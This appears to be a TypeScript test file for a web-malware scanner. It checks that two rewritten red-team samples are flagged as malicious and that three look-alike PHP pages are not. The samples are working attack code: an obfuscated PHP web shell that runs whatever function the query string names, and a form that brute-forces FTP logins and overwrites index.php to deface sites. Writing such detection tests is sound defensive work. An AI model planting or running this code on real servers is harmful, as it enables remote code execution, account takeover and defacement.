import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 45: the misses of its fair samples (bench/redteam/README-corpus-s45.md), each written again by us, with the
// look-alikes that must not be malicious.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;

const PAGES: [string, string, string][] = [
  [
    'a shell naming ini_get and $_GET by letters picked out of range() alphabets, calling what the query names (H55)',
    '/srv/www/img/x.php',
    `<?php
$U = range('A', 'Z');
$l = range('a', 'z');
$f = $l[8] . $l[13] . $l[8] . '_' . $l[6] . $l[4] . $l[19];
$q = '_' . $U[6] . $U[4] . $U[19];
$q = $$q;
$off = explode(',', $f('disable_functions'));
if (isset($q[$l[5]]) && !in_array($q[$l[5]], $off)) {
  call_user_func($q[$l[5]], $q[$l[0] . $l[17] . $l[6]]);
} else {
  echo 'off: ' . $f('disable_functions');
}
`,
  ],
  [
    'a mass defacer guessing the FTP logins of a server\'s accounts from lists the form gives (H55)',
    '/srv/www/ftp.php',
    `<form method="post"><input name="host"><textarea name="who"></textarea><textarea name="words"></textarea><input name="page"><input type="submit" name="go"></form>
<?php
if (isset($_POST['go'])) {
  $host = trim($_POST['host']);
  $who = explode("\\n", $_POST['who']);
  $words = explode("\\n", $_POST['words']);
  foreach ($who as $u) {
    foreach ($words as $w) {
      $c = ftp_connect($host);
      if ($c && @ftp_login($c, trim($u), trim($w))) {
        echo "in: $u<br>";
        ftp_put($c, '/public_html/index.php', $_POST['page'], FTP_ASCII);
        ftp_close($c);
        break;
      }
    }
  }
}
`,
  ],
];

const LOOKALIKES: [string, string, string][] = [
  [
    'a calendar page building its month list with range() and picking from it by number',
    '/srv/www/cal.php',
    `<?php
$months = range(1, 12);
$letters = range('A', 'Z');
$first = $letters[0] . $letters[1];
$m = isset($_GET['m']) ? (int) $_GET['m'] : 1;
echo '<h1>' . htmlspecialchars($first) . ' ' . $months[$m - 1] . '</h1>';
foreach ($letters as $i => $l) echo "<a href='?m=" . ($i % 12 + 1) . "'>$l</a> ";
`,
  ],
  [
    'an FTP client page: one login with what the form says, then a listing',
    '/srv/www/ftpclient.php',
    `<?php
$c = ftp_connect($_POST['host']);
if ($c && ftp_login($c, $_POST['user'], $_POST['pass'])) {
  foreach (ftp_nlist($c, '.') as $f) echo htmlspecialchars($f) . '<br>';
  ftp_close($c);
}
`,
  ],
  [
    'a backup job uploading to the FTP servers of its config, each tried in turn',
    '/srv/www/cron/backup.php',
    `<?php
$servers = explode(',', getenv('BACKUP_HOSTS'));
foreach ($servers as $h) {
  $c = ftp_connect(trim($h));
  if ($c && ftp_login($c, getenv('BACKUP_USER'), getenv('BACKUP_PASS'))) {
    ftp_put($c, 'site.tar.gz', '/var/backups/site.tar.gz', FTP_BINARY);
    ftp_close($c);
  }
}
`,
  ],
];

describe('scan: session 45 samples, the misses written again', () => {
  for (const [name, path, src] of PAGES) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every page', () => assert.equal(PAGES.length, 2));
  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 3));
});
